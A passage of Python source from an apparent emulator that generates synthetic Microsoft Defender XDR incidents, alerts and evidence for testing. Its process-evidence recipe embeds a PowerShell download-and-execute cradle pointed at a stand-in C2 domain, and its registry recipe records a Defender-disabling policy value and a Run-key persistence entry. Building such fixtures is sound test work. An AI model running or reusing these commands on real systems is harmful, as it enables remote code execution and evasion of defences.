"""Seeded Defender XDR attack stories: incidents, alerts and evidence shaped exactly as in Graph."""

from __future__ import annotations

import base64
import copy
import hashlib
import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from typing import Any, Final

from xdrsync.emulator import catalog as cat
from xdrsync.emulator.timefmt import graph_time

Json = dict[str, Any]

_TICKS_EPOCH = datetime(1, 1, 1, tzinfo=UTC)
_SEVERITY_RANK = {"unknown": 0, "informational": 1, "low": 2, "medium": 3, "high": 4}
# How many alerts an incident takes from its story (mean ≈ 4.1, as in real tenants' queues).
_ALERT_COUNTS = (1, 2, 3, 4, 5, 6, 7, 8)
_ALERT_COUNT_WEIGHTS = (10, 12, 18, 20, 16, 12, 7, 5)
_STORY_WEIGHTS = tuple(story.weight for story in cat.STORIES)
_TP_DETERMINATION = {
    "phish_chain": "multiStagedAttack",
    "ransomware": "multiStagedAttack",
    "bec": "compromisedAccount",
    "oauth_consent": "phishing",
    "password_spray": "compromisedAccount",
    "malware_download": "malware",
    "attachment": "malware",
    "powershell": "malware",
    "cloud_exfil": "maliciousUserActivity",
    "identity": "multiStagedAttack",
    "travel": "compromisedAccount",
    "cloud_infra": "compromisedAccount",
    "teams_phish": "phishing",
}

# -- the tenant's world: people, machines and remote addresses ---------------------------------


@dataclass(frozen=True)
class Person:
    display: str
    account: str
    upn: str
    aad_id: str
    sid: str
    guid: str


@dataclass(frozen=True)
class Host:
    name: str
    fqdn: str
    mde_id: str
    aad_id: str | None
    platform: str
    build: int | None
    version: str
    ip: str
    rbac: tuple[int, str]
    first_seen: str
    vm: tuple[str, str, str] | None  # (vmId, resourceId, subscriptionId) for Azure VMs


@dataclass(frozen=True)
class Place:
    ip: str
    city: str
    state: str
    country: str
    code: str
    lat: float
    lon: float


@dataclass(frozen=True)
class World:
    """Everything one tenant's stories draw from; the same seed and tenant give the same world."""

    tenant_id: str
    domain: str
    ad_domain: str
    netbios: str
    home: Place
    users: tuple[Person, ...]
    workstations: tuple[Host, ...]
    servers: tuple[Host, ...]
    dcs: tuple[Host, ...]
    remotes: tuple[Place, ...]
    analysts: tuple[Person, ...]
    admins: tuple[Person, ...]
    subscription: str
    aws_account: str
    gcp_project: tuple[str, int]


def _guid(rng: random.Random) -> str:
    bits = f"{rng.getrandbits(128):032x}"
    variant = "89ab"[int(bits[16], 16) % 4]
    return f"{bits[:8]}-{bits[8:12]}-4{bits[13:16]}-{variant}{bits[17:20]}-{bits[20:]}"


def build_world(seed: int, tenant_id: str) -> World:
    """The tenant's users, devices and attacker addresses, derived from seed and tenant id."""
    rng = random.Random(f"xdrsync-world/{seed}/{tenant_id}")
    org, _ = rng.choice(cat.ORGS)
    domain, ad_domain, netbios = f"{org}.com", f"corp.{org}.com", org[:15].upper()
    sid_prefix = f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}"
    names = rng.sample([(f, last) for f in cat.FIRST_NAMES for last in cat.LAST_NAMES], 200)
    user_count = rng.randint(60, 150)

    def person(first: str, last: str, rid: int) -> Person:
        return Person(
            f"{first} {last}",
            f"{first[0]}{last}".lower(),
            f"{first}.{last}@{domain}".lower(),
            _guid(rng),
            f"{sid_prefix}-{rid}",
            _guid(rng),
        )

    users = tuple(person(f, last, 1100 + i) for i, (f, last) in enumerate(names[:user_count]))
    analysts = tuple(person(f, last, 3000 + i) for i, (f, last) in enumerate(names[-7:]))
    admins = tuple(
        Person(a, a, f"{a}@{domain}", _guid(rng), f"{sid_prefix}-{500 + 7 * i}", _guid(rng))
        for i, a in enumerate(cat.PRIVILEGED_ACCOUNTS)
    )
    subscription = _guid(rng)
    start = datetime(2022, 1, 1, tzinfo=UTC)

    def host(name: str, os: tuple[str, int, str], rbac: tuple[int, str], azure: bool) -> Host:
        vm = None
        if azure:
            resource = (
                f"/subscriptions/{subscription}/resourceGroups/rg-{org}-prod/providers/"
                f"Microsoft.Compute/virtualMachines/{name}"
            )
            vm = (_guid(rng), resource, subscription)
        return Host(
            name,
            f"{name}.{ad_domain}".lower(),
            f"{rng.getrandbits(160):040x}",
            None if os[0] in ("macOS", "Linux") else _guid(rng),
            os[0],
            os[1] or None,
            os[2],
            f"10.{rng.randrange(1, 40)}.{rng.randrange(256)}.{rng.randrange(2, 255)}",
            rbac,
            graph_time(start + timedelta(minutes=rng.randrange(900_000))),
            vm,
        )

    workstations = tuple(
        host(
            f"{rng.choice(cat.DEPARTMENTS)[:3].upper()}-{rng.choice(('LT', 'WS'))}-{i:03d}",
            rng.choices(cat.WORKSTATION_OS, weights=(5, 3, 4, 1))[0],
            cat.RBAC_GROUPS[0],
            False,
        )
        for i in range(user_count)
    )
    roles = ("SQL", "FS", "APP", "WEB", "EXCH", "PRINT", "SCCM", "BACKUP")
    servers = tuple(
        host(
            f"{roles[i % len(roles)]}{i // len(roles) + 1:02d}",
            rng.choice(cat.SERVER_OS),
            cat.RBAC_GROUPS[1],
            rng.random() < 0.5,
        )
        for i in range(rng.randint(6, 14))
    )
    dcs = tuple(
        host(f"DC{i + 1:02d}", cat.SERVER_OS[0], cat.RBAC_GROUPS[2], False) for i in range(3)
    )
    home_city = rng.choice(cat.HOME_CITIES)
    home = Place(f"{rng.choice(cat.REMOTE_PREFIXES)}{rng.randrange(1, 255)}", *home_city)
    remotes = tuple(
        Place(
            f"{rng.choice(cat.REMOTE_PREFIXES)}{rng.randrange(1, 255)}",
            *rng.choice(cat.REMOTE_CITIES),
        )
        for _ in range(40)
    )
    return World(
        tenant_id,
        domain,
        ad_domain,
        netbios,
        home,
        users,
        workstations,
        servers,
        dcs,
        remotes,
        analysts,
        admins,
        subscription,
        f"{rng.randrange(10**11, 10**12)}",
        (f"{org}-prod-{rng.randrange(1000, 9999)}", rng.randrange(10**11, 10**12)),
    )


# -- one attack's entities -------------------------------------------------------------------


@dataclass(frozen=True)
class FileInfo:
    name: str
    folder: str
    sha1: str
    sha256: str
    md5: str
    size: int

    @property
    def path(self) -> str:
        return f"{self.folder}\\{self.name}"


@dataclass(frozen=True)
class Threat:
    display: str
    family: str
    category: str
    file: FileInfo


class Scene:
    """The entities of one attack, shared by all its alerts so that evidence correlates."""

    def __init__(
        self,
        rng: random.Random,
        world: World,
        *,
        reuse: Sequence[Scene] = (),
        user: Person | None = None,
        host: Host | None = None,
    ) -> None:
        self.rng, self.world = rng, world
        # Attackers come back: some incidents involve a recent incident's user and device.
        previous = rng.choice(reuse) if reuse and rng.random() < 0.25 else None
        users = len(world.users)
        index = rng.randrange(users)
        own = index if rng.random() < 0.85 else rng.randrange(users)
        self.user: Person = user or (previous.user if previous else world.users[index])
        self.host: Host = host or (previous.host if previous else world.workstations[own])
        self.user2: Person = world.users[(index + 1 + rng.randrange(users - 1)) % users]
        self.admin: Person = rng.choice(world.admins)
        self.host2: Host = rng.choice(world.servers)
        self.dc: Host = rng.choice(world.dcs)
        self.remote, self.sender_place, self.c2 = rng.sample(world.remotes, 3)
        self.c2_domain: str = rng.choice(cat.C2_DOMAINS)
        phish = rng.choice(cat.PHISH_DOMAINS)
        path = rng.choice(("auth", "doc", "s", "view"))
        self.url = f"https://{phish}/{path}/{rng.getrandbits(48):012x}"
        self.sender = (rng.choice(cat.SENDER_NAMES), f"no-reply{rng.randrange(100)}@{phish}", phish)
        self.subject: str = rng.choice(cat.SUBJECTS).format(
            n=rng.randrange(1000, 99999), q=rng.randint(1, 4), n2=f"{rng.randrange(100):02d}"
        )
        self.message_id, self.session_id = _guid(rng), _guid(rng)
        self.app: tuple[str, int] = rng.choice(cat.CLOUD_APPS)
        name, publisher = rng.choice(cat.OAUTH_APPS)
        self.oauth = (name, publisher, _guid(rng), _guid(rng))
        self.count = rng.randint(15, 480)
        self.actor: str | None = rng.choice(cat.ACTORS) if rng.random() < 0.4 else None
        self.browser: tuple[str, str, str] = rng.choice(cat.BROWSERS)
        self._threats: dict[str, Threat] = {}

    def guid(self) -> str:
        return _guid(self.rng)

    def threat(self, kind: str = "") -> Threat:
        """The story's malware (or ransomware, or hack tool), chosen once per incident."""
        kind = kind or "malware"
        if kind not in self._threats:
            table = {"ransomware": cat.RANSOMWARE, "hacktool": cat.HACKTOOLS}.get(kind, cat.MALWARE)
            display, family, category, name, folder = self.rng.choice(table)
            rng = self.rng
            info = FileInfo(
                name.format(n=rng.randrange(1000, 9999)),
                folder.format(acct=self.user.account),
                f"{rng.getrandbits(160):040x}",
                f"{rng.getrandbits(256):064x}",
                f"{rng.getrandbits(128):032x}",
                rng.randrange(40_000, 4_000_000),
            )
            self._threats[kind] = Threat(display, family, category, info)
        return self._threats[kind]

    def fields(self, threat: str = "") -> dict[str, Any]:
        """Names for alert titles and descriptions."""
        return {
            "user": self.user.display,
            "upn": self.user.upn,
            "device": self.host.name,
            "device2": self.host2.name,
            "dc": self.dc.name,
            "ip": self.remote.ip,
            "country": self.remote.country,
            "home": self.world.home.city,
            "domain": self.c2_domain,
            "c2": self.c2.ip,
            "family": self.threat(threat).family,
            "app": self.app[0],
            "oauth": self.oauth[0],
            "count": self.count,
        }


# -- evidence --------------------------------------------------------------------------------
# Each recipe builds one evidence item of an alert from the scene, with every property of its
# Graph type present (null where the product has nothing to say).

Recipe = Callable[[Scene, cat.AlertSpec, datetime, str], Json]
_GROUP_RIDS = {
    "Domain Admins": "512",
    "Enterprise Admins": "519",
    "Backup Operators": "551",
    "Account Operators": "548",
}


def _ev(
    kind: str,
    at: str,
    verdict: str,
    roles: list[str],
    detailed: list[str] | None = None,
    remediation: str = "none",
) -> Json:
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}Evidence",
        "createdDateTime": at,
        "verdict": verdict,
        "remediationStatus": remediation,
        "remediationStatusDetails": None,
        "roles": roles,
        "detailedRoles": detailed or [],
        "tags": [],
    }


#: A type Graph could add tomorrow: none of the documented ones (reference §2.6).
NEWER_EVIDENCE_TYPE: Final = "#microsoft.graph.security.aiModelDeploymentEvidence"


def newer_evidence(alert: Json) -> Json:
    """An evidence item of ``NEWER_EVIDENCE_TYPE`` for ``alert``: the base properties, then
    properties of its own, nested objects, lists and an enum value no client knows."""
    tag = _stable_hex(str(alert.get("id")), 12)
    return {
        **_ev("aiModelDeployment", str(alert.get("createdDateTime")), "suspicious", ["contextual"]),
        "@odata.type": NEWER_EVIDENCE_TYPE,
        "deploymentId": f"dep-{tag}",
        "displayName": f"model-{tag[:6]}",
        "riskLevel": "elevated",
        "endpoint": {"region": "westeurope", "uri": f"https://{tag}.models.example"},
        "owners": [{"userPrincipalName": f"owner-{tag[:4]}@contoso.com", "role": "admin"}],
        "limits": {"tokensPerMinute": 120_000, "quotas": [1, 2.5, None, True]},
    }


def _stable_hex(text: str, length: int) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:length]


@lru_cache(maxsize=256)
def _system_file(name: str, folder: str) -> tuple[tuple[str, Any], ...]:
    """Windows binaries: signed by Microsoft, same hashes everywhere (cached, copied on use)."""
    return (
        ("fileName", name),
        ("filePath", folder),
        ("filePublisher", "Microsoft Corporation"),
        ("fileSize", 20_000 + int(_stable_hex(name, 5), 16) % 900_000),
        ("issuer", "Microsoft Windows Production PCA 2011"),
        ("md5", _stable_hex("md5" + name, 32)),
        ("sha1", _stable_hex("sha1" + name, 40)),
        ("sha256", _stable_hex(name, 64)),
        ("sha256Ac", None),
        ("signer", "Microsoft Windows"),
    )


def _details(info: FileInfo) -> Json:
    return {
        "fileName": info.name,
        "filePath": info.folder,
        "filePublisher": None,
        "fileSize": info.size,
        "issuer": None,
        "md5": info.md5,
        "sha1": info.sha1,
        "sha256": info.sha256,
        "sha256Ac": None,
        "signer": None,
    }


def _account(s: Scene, p: Person) -> Json:
    return {
        "accountName": p.account,
        "activeDirectoryObjectGuid": p.guid,
        "azureAdUserId": p.aad_id,
        "displayName": p.display,
        "domainName": s.world.ad_domain,
        "resourceAccessEvents": [],
        "tenantId": s.world.tenant_id,
        "userPrincipalName": p.upn,
        "userSid": p.sid,
    }


def _user(s: Scene, at: str, p: Person, roles: list[str], verdict: str) -> Json:
    item = _ev("user", at, verdict, roles)
    item.update(userAccount=_account(s, p), stream=None)
    return item


def _device(
    s: Scene, at: str, h: Host, roles: list[str], detailed: list[str], verdict: str
) -> Json:
    item = _ev("device", at, verdict, roles, detailed)
    on = s.user if h.rbac[0] == cat.RBAC_GROUPS[0][0] else s.admin
    item.update(
        {
            "firstSeenDateTime": h.first_seen,
            "mdeDeviceId": h.mde_id,
            "azureAdDeviceId": h.aad_id,
            "deviceDnsName": h.fqdn,
            "dnsDomain": s.world.ad_domain,
            "hostName": h.name,
            "ntDomain": s.world.netbios,
            "osPlatform": h.platform,
            "osBuild": h.build,
            "version": h.version,
            "healthStatus": "active",
            "riskScore": "high" if "compromised" in roles else "medium",
            "rbacGroupId": h.rbac[0],
            "rbacGroupName": h.rbac[1],
            "onboardingStatus": "onboarded",
            "defenderAvStatus": "updated",
            "ipInterfaces": [h.ip],
            "loggedOnUsers": [{"accountName": on.account, "domainName": s.world.netbios}],
            "lastIpAddress": h.ip,
            "lastExternalIpAddress": s.world.home.ip,
            "resourceAccessEvents": [],
            "vmMetadata": None
            if h.vm is None
            else {
                "vmId": h.vm[0],
                "cloudProvider": "azure",
                "resourceId": h.vm[1],
                "subscriptionId": h.vm[2],
            },
        }
    )
    return item


def _ip(at: str, place: Place | None, roles: list[str], verdict: str, address: str = "") -> Json:
    item = _ev("ip", at, verdict, roles)
    item.update(
        {
            "countryLetterCode": place.code if place else None,
            "ipAddress": place.ip if place else address,
            "location": None
            if place is None
            else {
                "city": place.city,
                "countryName": place.country,
                "latitude": place.lat,
                "longitude": place.lon,
                "state": place.state,
            },
            "stream": None,
        }
    )
    return item


def _target_host(s: Scene, spec: cat.AlertSpec) -> Host:
    return s.host2 if "device2" in spec.evidence and "device" not in spec.evidence else s.host


def _file(s: Scene, spec: cat.AlertSpec, when: datetime, at: str) -> Json:
    blocked = spec.detection == "antivirus"
    item = _ev(
        "file",
        at,
        "malicious",
        [],
        ["Referred in command line"] if not blocked else [],
        "prevented" if blocked else s.rng.choice(("remediated", "none", "active")),
    )
    item.update(
        detectionStatus="prevented" if blocked else "detected",
        fileDetails=_details(s.threat(spec.threat).file),
        mdeDeviceId=_target_host(s, spec).mde_id,
    )
    return item


def _process(s: Scene, spec: cat.AlertSpec, when: datetime, at: str, technique: str = "") -> Json:
    rng = s.rng
    technique = technique or next((t for t in spec.techniques if t in cat.COMMANDS), "")
    image, folder, line, parent = cat.COMMANDS.get(technique, cat.DEFAULT_COMMAND)
    payload = s.threat(spec.threat).file
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{s.c2_domain}/p')"
    values = {
        "payload": payload.path,
        "payload_name": payload.name,
        "payload_dir": payload.folder,
        "host2": s.host2.fqdn,
        "url": s.url,
        "acct": s.user.account,
        "b64": base64.b64encode(script.encode("utf-16-le")).decode(),
    }
    image, folder, parent = (
        image.format_map(values),
        folder.format_map(values),
        parent.format_map(values),
    )
    started = when - timedelta(seconds=rng.uniform(5, 900))
    host = _target_host(s, spec)
    item = _ev(
        "process",
        at,
        "malicious" if image == payload.name else "suspicious",
        [],
        [],
        rng.choice(("none", "remediated", "prevented")),
    )
    parent_dir = (
        payload.folder
        if parent == payload.name
        else ("C:\\Windows" if parent == "explorer.exe" else cat.SYSTEM32)
    )
    item.update(
        {
            "detectionStatus": "detected",
            "imageFile": _details(payload)
            if image == payload.name
            else dict(_system_file(image, folder)),
            "mdeDeviceId": host.mde_id,
            "parentProcessCreationDateTime": graph_time(
                started - timedelta(minutes=rng.uniform(1, 600))
            ),
            "parentProcessId": rng.randrange(400, 30_000),
            "parentProcessImageFile": _details(payload)
            if parent == payload.name
            else dict(_system_file(parent, parent_dir)),
            "processCommandLine": line.format_map(values),
            "processCreationDateTime": graph_time(started),
            "processId": rng.randrange(400, 30_000),
            "userAccount": _account(s, s.admin if host is s.host2 else s.user),
        }
    )
    return item


def _registry(s: Scene, spec: cat.AlertSpec, at: str, with_value: bool) -> Json:
    tamper = "T1562.001" in spec.techniques
    item = _ev("registryValue" if with_value else "registryKey", at, "suspicious", [])
    item.update(
        registryHive="HKEY_LOCAL_MACHINE" if tamper else "HKEY_CURRENT_USER",
        registryKey="SOFTWARE\\Policies\\Microsoft\\Windows Defender"
        if tamper
        else "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    )
    if with_value:
        item.update(
            mdeDeviceId=_target_host(s, spec).mde_id,
            registryValue="01000000" if tamper else s.threat(spec.threat).file.path,
            registryValueName="DisableAntiSpyware" if tamper else "OneDriveUpdate",
            registryValueType="Dword" if tamper else "String",
        )
    return item


def _message(s: Scene, spec: cat.AlertSpec, when: datetime, at: str) -> Json:
    attachment = "file" in spec.evidence
    removed = "removed" in spec.title
    item = _ev("analyzedMessage", at, "malicious", [], [], "remediated" if removed else "none")
    name, address, domain = s.sender
    sender = {"displayName": name, "domainName": domain, "emailAddress": address}
    item.update(
        {
            "antiSpamDirection": "inbound",
            "attachmentsCount": 1 if attachment else 0,
            "deliveryAction": "delivered",
            "deliveryLocation": "inbox",
            "internetMessageId": f"<{s.message_id.replace('-', '')[:20]}@{domain}>",
            "language": "en",
            "networkMessageId": s.message_id,
            "p1Sender": sender,
            "p2Sender": dict(sender),
            "receivedDateTime": graph_time(when - timedelta(minutes=s.rng.uniform(2, 90))),
            "recipientEmailAddress": s.user.upn,
            "senderIp": s.sender_place.ip,
            "subject": s.subject,
            "threatDetectionMethods": ["fileDetonation"]
            if attachment
            else ["urlDetonationReputation"],
            "threats": ["Malware"] if attachment else ["Phish"],
            "urlCount": 0 if attachment else 1,
            "urls": [] if attachment else [s.url],
            "urn": f"urn:MailEntity:{s.message_id.replace('-', '')}",
        }
    )
    return item


def _cluster(s: Scene, spec: cat.AlertSpec, when: datetime, at: str) -> Json:
    domain = s.sender[2]
    ids = [s.message_id, *(s.guid() for _ in range(s.rng.randint(1, 4)))]
    item = _ev("mailCluster", at, "malicious", [], [], "remediated")
    item.update(
        {
            "clusterBy": "Subject;P2SenderDomain;ContentType",
            "clusterByValue": f"{s.subject};{domain};text/html",
            "emailCount": len(ids) + s.count % 30,
            "networkMessageIds": ids,
            "query": f'(Subject:"{s.subject}") AND (P2SenderDomain:{domain}) '
            "AND (ContentType:text/html)",
            "urn": f"urn:MailClusterEntity:{_stable_hex(s.message_id, 64)}",
        }
    )
    return item


def _mailbox(s: Scene, at: str) -> Json:
    item = _ev("mailbox", at, "suspicious", ["compromised"] if s.rng.random() < 0.3 else [])
    item.update(
        displayName=s.user.display,
        primaryAddress=s.user.upn,
        upn=s.user.upn,
        userAccount=_account(s, s.user),
    )
    return item


def _mailbox_config(s: Scene, spec: cat.AlertSpec, at: str) -> Json:
    forwarding = "forwarding" in spec.title.lower()
    item = _ev("mailboxConfiguration", at, "suspicious", [], [], "none")
    item.update(
        configurationId=s.guid(),
        configurationType="mailForwardingRule" if forwarding else "userInboxRule",
        displayName="." if s.rng.random() < 0.5 else "RSS Feeds sync",
        externalDirectoryObjectId=s.user.aad_id,
        mailboxPrimaryAddress=s.user.upn,
        upn=s.user.upn,
    )
    return item


def _logon_session(s: Scene, when: datetime, at: str) -> Json:
    item = _ev("cloudLogonSession", at, "suspicious", [])
    item.update(
        {
            "account": _user(s, at, s.user, ["compromised"], "suspicious"),
            "browser": s.browser[0],
            "deviceName": None,
            "operatingSystem": s.browser[1],
            "previousLogonDateTime": graph_time(when - timedelta(hours=s.rng.uniform(2, 96))),
            "protocol": "OAuth2",
            "sessionId": s.session_id,
            "startUtcDateTime": graph_time(when - timedelta(minutes=s.rng.uniform(1, 45))),
            "userAgent": s.browser[2],
        }
    )
    return item


def _netconn(s: Scene, spec: cat.AlertSpec, at: str) -> Json:
    lateral = "device2" in spec.evidence
    item = _ev("networkConnection", at, "suspicious", [])
    item.update(
        {
            "destinationAddress": _ip(at, None, ["destination"], "unknown", s.host2.ip)
            if lateral
            else _ip(at, s.c2, ["commandAndControl"], "malicious"),
            "destinationPort": 445 if lateral else 443,
            "protocol": "tcp",
            "sourceAddress": _ip(at, None, ["source"], "unknown", s.host.ip),
            "sourcePort": s.rng.randrange(49_152, 65_535),
        }
    )
    return item


def _dns(s: Scene, at: str) -> Json:
    item = _ev("dns", at, "malicious", [])
    item.update(
        dnsServerIp=_ip(at, None, [], "unknown", s.dc.ip),
        domainName=s.c2_domain,
        hostIpAddress=_ip(at, None, ["source"], "unknown", s.host.ip),
        ipAddresses=[_ip(at, s.c2, ["commandAndControl"], "malicious")],
    )
    return item


def _malware(s: Scene, spec: cat.AlertSpec, when: datetime, at: str) -> Json:
    threat = s.threat(spec.threat)
    item = _ev("malware", at, "malicious", [], [], "prevented" if spec.detection else "remediated")
    item.update(
        category=threat.category,
        files=[_file(s, spec, when, at)],
        name=threat.display,
        processes=[],
    )
    return item


def _group(s: Scene, at: str) -> Json:
    name = s.rng.choice(cat.SENSITIVE_GROUPS)
    rid = _GROUP_RIDS[name]
    sid = f"S-1-5-32-{rid}" if rid in ("551", "548") else f"{s.user.sid.rsplit('-', 1)[0]}-{rid}"
    guid = _stable_hex(f"{s.world.tenant_id}/{name}", 32)
    dc_path = ",".join(f"DC={part}" for part in s.world.ad_domain.split("."))
    item = _ev("securityGroup", at, "unknown", ["contextual"])
    item.update(
        activeDirectoryObjectGuid=f"{guid[:8]}-{guid[8:12]}-{guid[12:16]}-{guid[16:20]}-{guid[20:]}",
        displayName=name,
        distinguishedName=f"CN={name},CN=Users,{dc_path}",
        friendlyName=name,
        securityGroupId=sid,
        sid=sid,
    )
    return item


def _teams(s: Scene, when: datetime, at: str) -> Json:
    received = when - timedelta(minutes=s.rng.uniform(1, 60))
    message = str(int(received.timestamp() * 1000))
    url = _ev("url", at, "malicious", [])
    url["url"] = s.url
    item = _ev("teamsMessage", at, "malicious", [], [], "remediated")
    item.update(
        {
            "campaignId": s.guid(),
            "channelId": None,
            "deliveryAction": "delivered",
            "deliveryLocation": "teams",
            "files": [],
            "groupId": None,
            "isExternal": True,
            "isOwned": False,
            "lastModifiedDateTime": graph_time(received),
            "messageDirection": "inbound",
            "messageId": message,
            "owningTenantId": s.guid(),
            "parentMessageId": message,
            "receivedDateTime": graph_time(received),
            "recipients": [s.user.upn],
            "senderFromAddress": s.sender[1],
            "senderIP": s.sender_place.ip,
            "sourceAppName": "Teams Desktop",
            "sourceId": s.guid(),
            "subject": None,
            "suspiciousRecipients": [s.user.upn],
            "threadId": f"19:{s.message_id.replace('-', '')}@unq.gbl.spaces",
            "threadType": "Chat",
            "urls": [url],
        }
    )
    return item


def _cloud_resource(s: Scene, at: str, kind: str) -> Json:
    rng, world = s.rng, s.world
    name = f"vm-{rng.choice(('web', 'build', 'db', 'etl'))}-{rng.randrange(100):02d}"
    item = _ev(kind, at, "suspicious", ["contextual"])
    if kind == "azureResource":
        item.update(
            resourceId=f"/subscriptions/{world.subscription}/resourceGroups/rg-prod/providers/"
            f"Microsoft.Compute/virtualMachines/{name}",
            resourceName=name,
            resourceType="Virtual Machine",
        )
    elif kind == "amazonResource":
        instance = f"i-{rng.getrandbits(68):017x}"
        item.update(
            amazonAccountId=world.aws_account,
            amazonResourceId=f"arn:aws:ec2:eu-west-1:{world.aws_account}:instance/{instance}",
            resourceName=instance,
            resourceType="EC2 Instance",
        )
    else:
        project, number = world.gcp_project
        zone = rng.choice(("europe-west1-b", "us-central1-a", "asia-east1-c"))
        item.update(
            fullResourceName=f"//compute.googleapis.com/projects/{project}/zones/{zone}/instances/{name}",
            location=zone,
            locationType="zonal",
            projectId=project,
            projectNumber=number,
            resourceName=name,
            resourceType="Compute Engine Instance",
        )
    return item


def _simple(kind: str, verdict: str, roles: list[str], **fields: Any) -> Json:
    item = _ev(kind, "", verdict, roles)
    item.update(fields)
    return item


def _at(item: Json, at: str) -> Json:
    item["createdDateTime"] = at
    return item


EVIDENCE: dict[str, Recipe] = {
    "device": lambda s, sp, w, at: _device(
        s, at, s.host, ["compromised"], ["Main device"], "suspicious"
    ),
    "device2": lambda s, sp, w, at: _device(
        s,
        at,
        s.host2,
        ["compromised"]
        if sp.category in ("Impact", "Ransomware", "DefenseEvasion")
        else ["destination"],
        [],
        "suspicious",
    ),
    "dc": lambda s, sp, w, at: _device(s, at, s.dc, ["attacked"], ["Domain controller"], "unknown"),
    "user": lambda s, sp, w, at: _user(s, at, s.user, ["compromised"], "suspicious"),
    "user2": lambda s, sp, w, at: _user(s, at, s.user2, ["attacked"], "unknown"),
    "admin": lambda s, sp, w, at: _user(s, at, s.admin, ["compromised"], "suspicious"),
    "mailbox": lambda s, sp, w, at: _mailbox(s, at),
    "mailbox_config": lambda s, sp, w, at: _mailbox_config(s, sp, at),
    "message": _message,
    "cluster": _cluster,
    "url": lambda s, sp, w, at: _at(_simple("url", "malicious", [], url=s.url), at),
    "sender_ip": lambda s, sp, w, at: _ip(at, s.sender_place, ["source"], "suspicious"),
    "attacker_ip": lambda s, sp, w, at: _ip(at, s.remote, ["attacker"], "malicious"),
    "c2_ip": lambda s, sp, w, at: _ip(at, s.c2, ["commandAndControl"], "malicious"),
    "ip_user": lambda s, sp, w, at: _ip(at, s.world.home, ["source"], "noThreatsFound"),
    "ip_internal": lambda s, sp, w, at: _ip(at, None, ["source"], "unknown", s.host.ip),
    "file": _file,
    "hash": lambda s, sp, w, at: _at(
        _simple(
            "fileHash", "malicious", [], algorithm="sha256", value=s.threat(sp.threat).file.sha256
        ),
        at,
    ),
    "process": _process,
    # A discovery command from the same session, as Defender lists a process tree.
    "recon": lambda s, sp, w, at: _process(s, sp, w, at, "T1087"),
    "powershell": lambda s, sp, w, at: _process(s, sp, w, at, "T1059.001"),
    "registry_key": lambda s, sp, w, at: _registry(s, sp, at, with_value=False),
    "registry_value": lambda s, sp, w, at: _registry(s, sp, at, with_value=True),
    "cloud_app": lambda s, sp, w, at: _at(
        _simple(
            "cloudApplication",
            "unknown",
            ["contextual"],
            appId=s.app[1],
            displayName=s.app[0],
            instanceId=0,
            instanceName=s.app[0],
            saasAppId=s.app[1],
            stream=None,
        ),
        at,
    ),
    "oauth_app": lambda s, sp, w, at: _at(
        _simple(
            "oauthApplication",
            "malicious",
            [],
            appId=s.oauth[2],
            displayName=s.oauth[0],
            objectId=s.oauth[3],
            publisher=s.oauth[1],
        ),
        at,
    ),
    "service_principal": lambda s, sp, w, at: _at(
        _simple(
            "servicePrincipal",
            "suspicious",
            [],
            appId=s.oauth[2],
            appOwnerTenantId=s.guid(),
            servicePrincipalName=s.oauth[0],
            servicePrincipalObjectId=s.oauth[3],
            servicePrincipalType="application",
            tenantId=s.world.tenant_id,
        ),
        at,
    ),
    "group": lambda s, sp, w, at: _group(s, at),
    "dns": lambda s, sp, w, at: _dns(s, at),
    "logon_session": lambda s, sp, w, at: _logon_session(s, w, at),
    "netconn": lambda s, sp, w, at: _netconn(s, sp, at),
    "malware": _malware,
    "azure_resource": lambda s, sp, w, at: _cloud_resource(s, at, "azureResource"),
    "amazon_resource": lambda s, sp, w, at: _cloud_resource(s, at, "amazonResource"),
    "gcp_resource": lambda s, sp, w, at: _cloud_resource(s, at, "googleCloudResource"),
    "teams_message": lambda s, sp, w, at: _teams(s, w, at),
    "host_logon": lambda s, sp, w, at: _at(
        _simple(
            "hostLogonSession",
            "suspicious",
            [],
            account=_user(s, at, s.user, ["compromised"], "suspicious"),
            endUtcDateTime=None,
            host=_device(s, at, s.host2, ["destination"], [], "suspicious"),
            sessionId=f"0x{s.rng.getrandbits(32):x}",
            startUtcDateTime=graph_time(w - timedelta(minutes=s.rng.uniform(1, 30))),
        ),
        at,
    ),
    "ad_domain": lambda s, sp, w, at: _at(
        _simple(
            "activeDirectoryDomain",
            "unknown",
            ["contextual"],
            activeDirectoryDomainName=s.world.ad_domain,
            trustedDomains=[],
        ),
        at,
    ),
}


def generate_incidents(
    *,
    seed: int,
    count: int,
    tenant_id: str,
    now: datetime,
    span: timedelta = timedelta(days=30),
    first_id: int = 1,
) -> list[Json]:
    """``count`` incidents as ``GET /security/incidents?$expand=alerts`` returns them.

    Ids run from ``first_id`` in creation order over ``[now - span, now]``; older incidents are
    more often already worked (assigned, commented, resolved); a few were merged into a later
    incident that shares a user or device with them.
    """
    rng = random.Random(f"xdrsync-stories/{seed}/{tenant_id}")
    world = build_world(seed, tenant_id)
    now = now.astimezone(UTC)
    moments = sorted(rng.random() for _ in range(count))
    recent: list[Scene] = []
    incidents: list[Json] = []
    for index, moment in enumerate(moments):
        created = now - span * (1.0 - moment)
        story = rng.choices(cat.STORIES, weights=_STORY_WEIGHTS)[0]
        scene = Scene(rng, world, reuse=recent)
        incident = build_incident(
            rng, scene, story, incident_id=str(first_id + index), created=created, now=now
        )
        age = (now - created) / span if span else 0.0
        work_incident(rng, world, incident, story.key, now=now, age=age)
        incidents.append(incident)
        recent.append(scene)
        del recent[:-12]
    _merge_some(rng, incidents, now)
    return incidents


# -- one incident ----------------------------------------------------------------------------


def build_incident(
    rng: random.Random,
    scene: Scene,
    story: cat.Story,
    *,
    incident_id: str,
    created: datetime,
    now: datetime,
) -> Json:
    """A fresh, untouched incident of ``story`` whose first alert was created at ``created``."""
    tenant_id = scene.world.tenant_id
    specs = _pick_steps(rng, story)
    window = min(now - created, timedelta(minutes=rng.uniform(10, 36 * 60)))
    offsets = sorted(rng.random() for _ in specs[1:])
    alerts = [
        build_alert(
            rng, scene, spec, incident_id=incident_id, created=created + window * offset, now=now
        )
        for spec, offset in zip(specs, [0.0, *offsets], strict=True)
    ]
    incident: Json = {
        "@odata.type": "#microsoft.graph.security.incident",
        "id": incident_id,
        "incidentWebUrl": incident_url(incident_id, tenant_id),
